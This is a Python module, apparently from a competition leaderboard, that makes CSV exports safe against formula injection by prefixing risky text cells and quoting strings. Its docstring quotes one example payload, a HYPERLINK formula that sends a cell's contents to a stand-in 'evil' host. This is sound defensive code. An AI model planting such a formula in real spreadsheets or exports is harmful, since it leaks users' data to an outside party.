"""CSV for spreadsheets: participants' text can never become a formula.

A team or method name such as ``=HYPERLINK("http://evil/?"&A1, "click")`` is stored and
returned verbatim (JSON, pages), but a spreadsheet that opens the board's CSV would run it.
So, as OWASP's "CSV Injection" page recommends, a text cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is written with a single quote in front (the
spreadsheet shows it as text), and every text cell is quoted (a ``;`` inside a name cannot
start a new cell where ``;`` is the separator). Numbers are written as numbers, unquoted:
a negative metric stays a negative number, never ``'-0.5``.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

__all__ = ["FORMULA_START", "csv_text", "fixed", "text_cell"]

#: What makes a spreadsheet read a cell as a formula (or, tab and CR, hide a prefix).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value: str) -> str:
    """A participant's text, safe as a spreadsheet cell."""
    return "'" + value if value.startswith(FORMULA_START) else value


def fixed(value: float | None, precision: int) -> Decimal | str:
    """``value`` at ``precision`` decimals as a number cell (a ``Decimal``: the csv module
    writes it unquoted, as ``0.500``); empty when missing; a non-finite one as text."""
    if value is None:
        return ""
    if not math.isfinite(value):
        return str(value)
    return Decimal(f"{value:.{precision}f}")


def csv_text(header: list[str], rows: Iterable[Iterable[Any]]) -> str:
    """The CSV of ``rows``: numbers (int, float, Decimal) unquoted, every string quoted.
    Participants' strings must have passed through ``text_cell``; booleans are written
    ``true`` / ``false``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow(header)
    for row in rows:
        writer.writerow([str(c).lower() if isinstance(c, bool) else c for c in row])
    return buffer.getvalue()
